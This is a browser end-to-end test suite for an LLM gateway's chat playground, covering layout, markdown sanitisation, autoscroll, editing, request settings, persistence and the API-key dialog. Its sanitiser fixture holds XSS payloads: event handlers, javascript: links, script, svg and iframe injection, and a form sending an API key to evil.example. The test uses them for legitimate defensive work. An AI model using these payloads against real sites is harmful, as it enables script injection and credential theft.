/**
 * Issue 20, the playground people choose, in headless Chromium against a real gateway and real fake
 * upstreams: a layout that works from a phone up, markdown rendered and sanitised, autoscroll that
 * lets go when the person scrolls up, edit / regenerate / delete, the request fields, view code,
 * persistence across a reload (never the key), Esc, the live region, a stopped reply's tokens, the
 * key dialog, and a reply cut off by a gateway restart. The page is built apart (never touching
 * playground/dist, which other files rebuild) and served by the gateway's own static handler in
 * front of the gateway. Screenshots go to test/.artifacts/ (ignored by git).
 */
import { mkdirSync, readFileSync, rmSync } from "node:fs";
import { fileURLToPath } from "node:url";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { loadConfig } from "../server/config.js";
import { createKey, startKeyedGateway } from "./helpers/access.js";
import { hasChromium, launchChromium, warnIfNoChromium } from "./helpers/chromium.js";
import { startFakeUpstream, stream, type FakeUpstream, type Json } from "./helpers/fake-upstream.js";
import { startGateway, upstreamProvider, type TestGateway } from "./helpers/gateway.js";
import { buildPlaygroundApart, startPlaygroundFront, type PlaygroundFront } from "./helpers/playground-front.js";

warnIfNoChromium("playground-ui.test");
const artifacts = fileURLToPath(new URL("./.artifacts/", import.meta.url));
const words = (count: number, prefix: string) => Array.from({ length: count }, (_, i) => `${prefix}${i}`).join(" ");
const listedModel = 'option:not([value="__custom__"])';

const chunk = (content: string, finish: string | null = null): Json => ({
  id: "chatcmpl-md",
  object: "chat.completion.chunk",
  created: 1,
  model: "md-served-v2",
  choices: [{ index: 0, delta: { content }, finish_reason: finish }],
});
/** `text` streamed in pieces of `size` characters. */
const pieces = (text: string, size = 12): Json[] => [
  ...Array.from({ length: Math.ceil(text.length / size) }, (_, i) => chunk(text.slice(i * size, (i + 1) * size))),
  chunk("", "stop"),
];

const hostileMarkdown = [
  "# Title",
  "Some **bold** and a [safe link](https://example.com/docs).",
  "| a | b |\n|---|---|\n| 1 | 2 |",
  "```js\nconst answer = 42;\n```",
  '<img src="x" onerror="window.__pwned = (window.__pwned || 0) + 1">',
  "[click me](javascript:window.__pwned=2)",
  'An inline <a href="javascript:window.__pwned=3">raw link</a> too.',
  "<script>window.__pwned = 4</script>",
  '<svg onload="window.__pwned = 5"><circle r="3"/></svg>',
  '<iframe src="javascript:window.__pwned=6"></iframe>',
  '<form action="https://evil.example"><input name="key" placeholder="API key"><button>Send</button></form>',
  '<p style="position:fixed;inset:0" onclick="window.__pwned=7">overlay</p>',
].join("\n\n");

describe.skipIf(!hasChromium)("the playground people choose (issue 20)", () => {
  let gateway: TestGateway;
  let md: FakeUpstream;
  let front: PlaygroundFront;
  let build: string;
  let browser: Browser;
  const pageErrors: string[] = [];
  const cspReports: string[] = [];
  const providers = async () => [upstreamProvider(md.baseURL, ["md-model", "spare-model"], { name: "md" })];

  beforeAll(async () => {
    mkdirSync(artifacts, { recursive: true });
    md = await startFakeUpstream();
    [gateway, build, browser] = await Promise.all([startGateway({ echoDelayMs: 30, providers: await providers() }), buildPlaygroundApart(), launchChromium()]);
    front = await startPlaygroundFront(build, gateway.baseURL);
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await front?.close();
    await gateway?.close(100);
    await md?.close();
    if (build) rmSync(build, { recursive: true, force: true });
    expect(pageErrors).toEqual([]);
  });

  /** A fresh tab (empty storage) at `width`×`height`, the model list loaded and `model` chosen. */
  async function open(width = 1280, height = 800, model = "echo"): Promise<{ page: Page; context: BrowserContext }> {
    const context = await browser.newContext({ viewport: { width, height } });
    const page = await context.newPage();
    page.on("pageerror", (err) => pageErrors.push(err.message));
    page.on("console", (msg) => {
      // Chromium reports the handlers the sanitiser meets while it parses a reply as CSP violations
      // (blocked, as everything inline is); they are the hostile reply's, not the page's errors.
      const text = msg.text();
      if (/Executing inline event handler violates the following Content Security Policy/.test(text)) cspReports.push(text);
      else if (msg.type() === "error" && !/Failed to load resource/.test(text)) pageErrors.push(text);
    });
    await page.goto(`${front.url}/`);
    await expect.poll(() => page.getByTestId("model").locator(listedModel).count()).toBeGreaterThan(0);
    // On a phone the settings start folded: open them to choose, as a person would.
    const folded = !(await page.getByTestId("model").isVisible());
    if (folded) await page.getByRole("button", { name: "Settings", exact: true }).click();
    await page.getByTestId("model").selectOption(model);
    if (folded) await page.getByRole("button", { name: "Close settings" }).click();
    return { page, context };
  }
  const lastReply = (page: Page) => page.getByTestId("reply").last();
  const settled = (page: Page) => expect.poll(() => lastReply(page).getAttribute("data-state"), { timeout: 15_000 }).toMatch(/done|error|stopped/);
  async function send(page: Page, text: string): Promise<void> {
    await page.getByLabel("Message").fill(text);
    await page.getByLabel("Message").press("Enter");
  }
  /** Elements whose right edge is past the viewport, and whether the page scrolls sideways. */
  const overflow = (page: Page) =>
    page.evaluate(() => {
      const width = document.documentElement.clientWidth;
      const past = [...document.querySelectorAll("body *")]
        .filter((el) => {
          const box = el.getBoundingClientRect();
          return box.width > 0 && box.right > width + 1;
        })
        .map((el) => `${el.tagName}.${el.className}`);
      return { scrolls: document.documentElement.scrollWidth > width, past };
    });

  describe("layout", () => {
    for (const [width, height] of [
      [1280, 800],
      [390, 844],
      [360, 740],
    ] as const) {
      it(`works at ${width}×${height}: nothing past the edge, the message box wide, the settings reachable`, async () => {
        const { page, context } = await open(width, height);
        const phone = width < 760;
        await send(page, `${"averyveryverylongwordwithoutanyspaces".repeat(4)} ${words(20, "w")}`);
        await settled(page);
        expect(await overflow(page)).toEqual({ scrolls: false, past: [] });
        const box = await page.getByLabel("Message").boundingBox();
        if (phone) {
          expect(box?.width ?? 0).toBeGreaterThanOrEqual(width * 0.8);
          // The settings start folded on a phone: the conversation gets the screen.
          expect(await page.locator("aside.settings").isVisible()).toBe(false);
          const messages = await page.getByTestId("messages").boundingBox();
          expect(messages?.height ?? 0).toBeGreaterThan(height * 0.45);
        } else {
          expect(await page.locator("aside.settings").isVisible()).toBe(true);
        }
        await page.screenshot({ path: `${artifacts}playground-${width}x${height}.png` });
        if (phone) {
          await page.getByRole("button", { name: "Settings", exact: true }).click();
          await page.getByLabel("System prompt").waitFor();
          expect(await overflow(page)).toEqual({ scrolls: false, past: [] });
          await page.screenshot({ path: `${artifacts}playground-${width}x${height}-settings.png` });
          await page.getByRole("button", { name: "Close settings" }).click();
          expect(await page.locator("aside.settings").isVisible()).toBe(false);
        }
        await context.close();
      });
    }

    it("keeps the header's height when the status turns to error (its class no longer takes the error box's margins)", async () => {
      const { page, context } = await open();
      const headerHeight = async () => (await page.locator("header").boundingBox())?.height ?? 0;
      const before = await headerHeight();
      await page.getByTestId("model").selectOption("__custom__");
      await page.getByLabel("Custom model id").fill("nobody/nothing");
      await send(page, "hello");
      await expect.poll(() => page.getByTestId("status").textContent()).toBe("error");
      expect(await lastReply(page).getByTestId("error").getAttribute("data-status")).toBe("404");
      expect(await headerHeight()).toBe(before);
      await context.close();
    });
  });

  it("renders a reply's markdown, and nothing in it runs: no handlers, no javascript: links, no scripts, frames or forms", async () => {
    md.otherwise(stream(pieces(hostileMarkdown, 40), { delayMs: 5 }));
    const { page, context } = await open(1280, 800, "md-model");
    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
    await send(page, "show me markdown");
    await settled(page);
    const reply = lastReply(page);
    expect(await reply.locator("h1").textContent()).toBe("Title");
    expect(await reply.locator("strong").textContent()).toBe("bold");
    expect(await reply.locator("table td").allTextContents()).toEqual(["1", "2"]);
    expect(await reply.locator("pre code").textContent()).toContain("const answer = 42;");
    const safe = reply.locator('a[href="https://example.com/docs"]');
    expect(await safe.getAttribute("target")).toBe("_blank");
    expect(await safe.getAttribute("rel")).toMatch(/noopener/);
    // The route as streams show it: the model the upstream says answered.
    expect(await reply.getByTestId("served-model").textContent()).toMatch(/md-served-v2/);

    const inside = await reply.evaluate((el) => ({
      handlers: [...el.querySelectorAll("*")].flatMap((node) => [...node.attributes].filter((a) => /^on/i.test(a.name)).map((a) => a.name)),
      scriptLinks: [...el.querySelectorAll("[href], [src], [action]")]
        .map((node) => node.getAttribute("href") ?? node.getAttribute("src") ?? node.getAttribute("action") ?? "")
        .filter((url) => /^\s*javascript:/i.test(url)),
      forbidden: el.querySelectorAll("script, iframe, form, input, [style]").length,
      pageButtons: [...el.querySelectorAll(".content button")].map((b) => b.textContent),
    }));
    expect(inside).toEqual({ handlers: [], scriptLinks: [], forbidden: 0, pageButtons: ["Copy"] });
    for (const text of ["click me", "raw link", "overlay"]) await reply.getByText(text, { exact: true }).click();
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(page.url()).toBe(`${front.url}/`);

    await reply.getByRole("button", { name: "Copy code" }).click();
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe("const answer = 42;\n");
    await reply.getByRole("button", { name: "Copy reply" }).click();
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(hostileMarkdown);
    await page.screenshot({ path: `${artifacts}playground-markdown.png` });
    md.reset();
    await context.close();
  });

  it("follows a growing reply until the person scrolls up, then stays put with a 'jump to latest' button; an error after the last token is in view", async () => {
    const lines = Array.from({ length: 120 }, (_, i) => `line ${i}\n\n`).join("");
    md.otherwise(stream(pieces(lines, 8), { delayMs: 25, dropAfter: 130 }));
    const { page, context } = await open(1280, 600, "md-model");
    const messages = page.getByTestId("messages");
    const fromBottom = () => messages.evaluate((el) => el.scrollHeight - el.scrollTop - el.clientHeight);
    await send(page, "many lines");
    await expect.poll(() => messages.evaluate((el) => el.scrollHeight > el.clientHeight * 1.5), { timeout: 10_000 }).toBe(true);
    expect(await fromBottom()).toBeLessThan(50);

    await messages.hover();
    await page.mouse.wheel(0, -600);
    await page.getByRole("button", { name: /Jump to latest/ }).waitFor();
    const heldAt = await messages.evaluate((el) => el.scrollTop);
    await new Promise((resolve) => setTimeout(resolve, 600)); // the old page pulled the reader back within 150 ms
    expect(await lastReply(page).getAttribute("data-state")).toBe("streaming");
    expect(Math.abs((await messages.evaluate((el) => el.scrollTop)) - heldAt)).toBeLessThan(2);

    await page.getByRole("button", { name: /Jump to latest/ }).click();
    expect(await fromBottom()).toBeLessThan(50);
    expect(await page.getByRole("button", { name: /Jump to latest/ }).count()).toBe(0);
    await settled(page);
    expect(await lastReply(page).getAttribute("data-state")).toBe("error");
    const error = await lastReply(page).getByTestId("error").boundingBox();
    const view = await messages.boundingBox();
    expect((error?.y ?? 0) + (error?.height ?? 0)).toBeLessThanOrEqual((view?.y ?? 0) + (view?.height ?? 0) + 1);
    md.reset();
    await context.close();
  });

  it("edits and resends a user turn, regenerates a reply, deletes turns", async () => {
    let answers = 0;
    md.otherwise((exchange) => stream([chunk(`answer ${++answers}`), chunk("", "stop")])(exchange));
    const { page, context } = await open(1280, 800, "md-model");
    await send(page, "first question");
    await settled(page);
    await send(page, "second question");
    await settled(page);
    expect(await page.getByTestId("content").allTextContents()).toEqual(["first question", "answer 1", "second question", "answer 2"]);

    await page.getByTestId("user-turn").first().getByRole("button", { name: "Edit" }).click();
    await page.getByLabel("Edited turn").fill("first question, edited");
    await page.getByRole("button", { name: "Save and resend" }).click();
    await settled(page);
    expect(await page.getByTestId("content").allTextContents()).toEqual(["first question, edited", "answer 3"]);
    expect(md.calls.at(-1)?.body.messages).toEqual([{ role: "user", content: "first question, edited" }]);

    await lastReply(page).getByRole("button", { name: "Regenerate" }).click();
    await expect.poll(() => page.getByTestId("content").allTextContents()).toEqual(["first question, edited", "answer 4"]);

    await lastReply(page).getByRole("button", { name: "Delete reply" }).click();
    expect(await page.getByTestId("content").allTextContents()).toEqual(["first question, edited"]);
    await page.getByTestId("user-turn").getByRole("button", { name: "Delete turn" }).click();
    expect(await page.getByTestId("user-turn").count()).toBe(0);
    md.reset();
    await context.close();
  });

  it("sends top_p, stop, seed, JSON mode and extra fields; refuses extra fields that are not a JSON object", async () => {
    const { page, context } = await open(1280, 900, "md-model");
    await page.getByLabel("Top P").fill("0.4");
    await page.getByLabel("Seed").fill("1234");
    await page.getByLabel("Stop sequences").fill("END\nSTOP");
    await page.getByLabel("JSON mode").check();
    await page.getByLabel("Extra fields").fill("[1, 2]");
    await page.getByLabel("Message").fill("with fields");
    await page.getByTestId("settings-problem").waitFor();
    expect(await page.getByRole("button", { name: "Send" }).isDisabled()).toBe(true);
    await page.getByLabel("Extra fields").fill('{"echo_delay_ms": 5, "vendor_flag": true}');
    expect(await page.getByTestId("settings-problem").count()).toBe(0);
    await page.getByLabel("Message").press("Enter");
    await settled(page);
    expect(md.calls.at(-1)?.body).toMatchObject({
      model: "md-model",
      top_p: 0.4,
      seed: 1234,
      stop: ["END", "STOP"],
      response_format: { type: "json_object" },
      echo_delay_ms: 5,
      vendor_flag: true,
    });
    await context.close();
  });

  it("takes a custom provider/model id, and refreshes the list: a removed model does not stay selected, not even after a reload", async () => {
    const { page, context } = await open(1280, 800, "spare-model");
    await page.getByTestId("model").selectOption("__custom__");
    await page.getByLabel("Custom model id").fill("md/typed-by-hand");
    await send(page, "custom");
    await settled(page);
    expect(md.calls.at(-1)?.body.model).toBe("typed-by-hand");
    await page.getByTestId("model").selectOption("spare-model");
    await send(page, "spare");
    await settled(page);

    const base = { ...loadConfig({}), echoDelayMs: 30 };
    await gateway.services.chat.reload({ ...base, providers: [upstreamProvider(md.baseURL, ["md-model"], { name: "md" })] });
    try {
      await page.getByRole("button", { name: "Refresh the model list" }).click();
      await expect.poll(() => page.getByTestId("model").locator(listedModel).allTextContents()).not.toContain("spare-model");
      expect(await page.getByTestId("model").inputValue()).not.toBe("spare-model");
      // Saved while it was chosen, gone now: a reload does not select it again.
      await page.evaluate(() => {
        const saved = JSON.parse(localStorage.getItem("languru.conversation") ?? "{}");
        saved.settings.model = "spare-model";
        localStorage.setItem("languru.conversation", JSON.stringify(saved));
      });
      await page.reload();
      await expect.poll(() => page.getByTestId("model").inputValue()).not.toMatch(/spare-model|__custom__/);
    } finally {
      await gateway.services.chat.reload({ ...base, providers: await providers() });
    }
    await context.close();
  });

  it("keeps the conversation and settings across a reload (never the key), exports it as JSON, and shows it as code", async () => {
    const { page, context } = await open(1280, 800, "echo");
    await page.getByLabel("System prompt").fill("Be terse.");
    await page.getByLabel("Top P").fill("0.9");
    await send(page, "remember me");
    await settled(page);
    await page.reload();
    await expect.poll(() => page.getByTestId("content").allTextContents()).toEqual(["remember me", "remember me"]);
    expect(await page.getByLabel("System prompt").inputValue()).toBe("Be terse.");
    expect(await page.getByLabel("Top P").inputValue()).toBe("0.9");
    expect(await page.getByTestId("model").inputValue()).toBe("echo");

    const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export JSON" }).click()]);
    const file = JSON.parse(readFileSync((await download.path()) ?? "", "utf8"));
    expect(file).toMatchObject({ model: "echo", system: "Be terse.", params: { top_p: 0.9 } });
    expect(file.messages.map((m: { role: string; content: string }) => [m.role, m.content])).toEqual([
      ["user", "remember me"],
      ["assistant", "remember me"],
    ]);

    await page.getByLabel("Message").fill("next one");
    await page.getByRole("button", { name: "View code" }).click();
    const dialog = page.getByRole("dialog", { name: "Code for this conversation" });
    const sample = dialog.getByTestId("code-sample");
    const curl = (await sample.textContent()) ?? "";
    expect(curl).toContain(`curl -N ${front.url}/v1/chat/completions`);
    const body = JSON.parse(/-d '([\s\S]*)'$/.exec(curl)?.[1] ?? "{}");
    expect(body).toMatchObject({ model: "echo", top_p: 0.9, stream: true });
    expect(body.messages).toEqual([
      { role: "system", content: "Be terse." },
      { role: "user", content: "remember me" },
      { role: "assistant", content: "remember me" },
      { role: "user", content: "next one" },
    ]);
    await dialog.getByRole("tab", { name: "Languru SDK" }).click();
    expect(await sample.textContent()).toMatch(/createLanguruClient[\s\S]*chat\.stream\(/);
    await dialog.getByRole("tab", { name: "openai client" }).click();
    expect(await sample.textContent()).toMatch(/new OpenAI\(\{ baseURL: "http:\/\/127\.0\.0\.1:\d+\/v1"/);
    await page.keyboard.press("Escape");
    await dialog.waitFor({ state: "detached" });
    await context.close();
  });

  it("Esc stops a reply and focus returns to the message box (Stop too); only the reply being written is a live region; a stopped reply counts its tokens", async () => {
    const { page, context } = await open(1280, 800, "echo");
    await send(page, words(200, "esc"));
    await expect.poll(async () => ((await lastReply(page).getByTestId("content").textContent()) ?? "").length, { timeout: 10_000 }).toBeGreaterThan(20);
    const live = await page.evaluate(() => {
      const regions = [...document.querySelectorAll("[aria-live]")].filter(
        (el) => el.closest("[data-testid=messages]") || el.matches("[data-testid=messages]"),
      );
      const replies = [...document.querySelectorAll("[data-testid=reply]")];
      return {
        count: regions.length,
        inLastReply: regions[0]?.closest("[data-testid=reply]") === replies.at(-1),
        list: document.querySelector("[data-testid=messages]")?.hasAttribute("aria-live"),
      };
    });
    expect(live).toEqual({ count: 1, inLastReply: true, list: false });
    await page.locator("header h1").click(); // focus away from the message box
    await page.keyboard.press("Escape");
    await expect.poll(() => lastReply(page).getAttribute("data-state")).toBe("stopped");
    expect(await page.evaluate(() => document.activeElement?.getAttribute("aria-label"))).toBe("Message");
    expect(await lastReply(page).getByTestId("stats").textContent()).toMatch(/≈\d+ tokens \(estimated\)/);
    expect(await page.getByTestId("totals").textContent()).toMatch(/[1-9]\d* completion/);
    await expect.poll(() => gateway.services.generations.running(), { timeout: 5_000 }).toBe(0);

    await send(page, words(200, "stop"));
    await expect.poll(async () => ((await lastReply(page).getByTestId("content").textContent()) ?? "").length, { timeout: 10_000 }).toBeGreaterThan(20);
    await page.getByRole("button", { name: "Stop" }).click();
    await expect.poll(() => lastReply(page).getAttribute("data-state")).toBe("stopped");
    expect(await page.evaluate(() => document.activeElement?.getAttribute("aria-label"))).toBe("Message");
    await context.close();
  });

  it("shows no key button when keys are off", async () => {
    const { page, context } = await open();
    await page.getByRole("button", { name: "Settings", exact: true }).waitFor();
    expect(await page.getByRole("button", { name: /API key|Forget key/ }).count()).toBe(0);
    await context.close();
  });

  it("says the gateway restarted when a reply in flight cannot go on (no Redis), keeps the partial reply, and Retry works", async () => {
    const { page, context } = await open(1280, 800, "echo");
    const text = words(150, "r");
    await send(page, text);
    const content = lastReply(page).getByTestId("content");
    await expect.poll(async () => ((await content.textContent()) ?? "").length, { timeout: 10_000 }).toBeGreaterThan(20);
    // A restart as the page sees it: every connection drops, and the gateway that answers next is a new process.
    const restarted = await startGateway({ echoDelayMs: 5, providers: await providers() });
    try {
      front.retarget(restarted.baseURL);
      front.cut();
      const error = lastReply(page).getByTestId("error");
      await expect.poll(() => error.textContent(), { timeout: 20_000 }).toMatch(/The gateway restarted/);
      expect(await error.textContent()).toMatch(/generation_restarted/);
      expect(await error.textContent()).not.toMatch(/Not found/);
      const partial = (await content.textContent()) ?? "";
      expect(partial.length).toBeGreaterThan(20);
      expect(text.startsWith(partial)).toBe(true);
      await page.screenshot({ path: `${artifacts}playground-gateway-restarted.png` });
      await lastReply(page).getByRole("button", { name: "Retry" }).click();
      await expect.poll(() => lastReply(page).getAttribute("data-state"), { timeout: 15_000 }).toBe("done");
      expect(await lastReply(page).getByTestId("content").textContent()).toBe(text);
    } finally {
      front.retarget(gateway.baseURL);
      await context.close();
      await restarted.close(100);
    }
  });
});

describe.skipIf(!hasChromium)("the playground's key dialog (issue 20)", () => {
  let gateway: TestGateway;
  let front: PlaygroundFront;
  let build: string;
  let browser: Browser;

  beforeAll(async () => {
    [gateway, build, browser] = await Promise.all([startKeyedGateway(), buildPlaygroundApart(), launchChromium()]);
    front = await startPlaygroundFront(build, gateway.baseURL);
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await front?.close();
    await gateway?.close(100);
    if (build) rmSync(build, { recursive: true, force: true });
  });

  it("is a real dialog: focus in, Tab kept inside, Escape closes; a wrong key says 'incorrect' and stays said; a good key works", async () => {
    const { key } = await createKey(gateway);
    const context = await browser.newContext({ viewport: { width: 390, height: 844 } });
    const page = await context.newPage();
    await page.goto(`${front.url}/`);
    const dialog = page.getByRole("dialog", { name: "API key" });
    await dialog.waitFor();
    expect(await dialog.getAttribute("aria-modal")).toBe("true");
    expect(await page.evaluate(() => document.activeElement?.getAttribute("type"))).toBe("password");
    for (let i = 0; i < 5; i++) {
      await page.keyboard.press("Tab");
      expect(await page.evaluate(() => Boolean(document.activeElement?.closest("[role=dialog]")))).toBe(true);
    }
    expect(await dialog.getByTestId("key-reason").textContent()).toMatch(/requires an API key/);
    await page.keyboard.press("Escape");
    await dialog.waitFor({ state: "detached" });
    await page.getByRole("button", { name: "API key" }).click();
    await dialog.waitFor();

    await dialog.getByLabel("Key", { exact: true }).fill("sk-lru-not-a-real-key");
    await dialog.getByRole("button", { name: "Use key" }).click();
    await expect.poll(() => dialog.getByTestId("key-reason").textContent()).toMatch(/Incorrect API key/);
    // The keyless 401 that follows once the wrong key is forgotten must not replace it.
    await new Promise((resolve) => setTimeout(resolve, 800));
    expect(await dialog.getByTestId("key-reason").textContent()).toMatch(/Incorrect API key/);
    expect(await page.evaluate(() => sessionStorage.getItem("languru.apiKey"))).toBeNull();
    await page.screenshot({ path: `${artifacts}playground-key-incorrect.png` });

    await dialog.getByLabel("Key", { exact: true }).fill(key);
    await dialog.getByRole("button", { name: "Use key" }).click();
    await dialog.waitFor({ state: "detached" });
    // The settings are folded on a phone; the page chose the first model by itself.
    await expect.poll(() => page.getByTestId("model").inputValue()).toBe("echo");
    await page.getByLabel("Message").fill("keyed");
    await page.getByLabel("Message").press("Enter");
    await expect.poll(() => page.getByTestId("reply").last().getAttribute("data-state"), { timeout: 10_000 }).toBe("done");
    expect(await page.getByRole("button", { name: "Forget key" }).count()).toBe(1);
    expect(JSON.stringify(await page.evaluate(() => ({ ...localStorage })))).not.toContain(key);
    await context.close();
  });
});
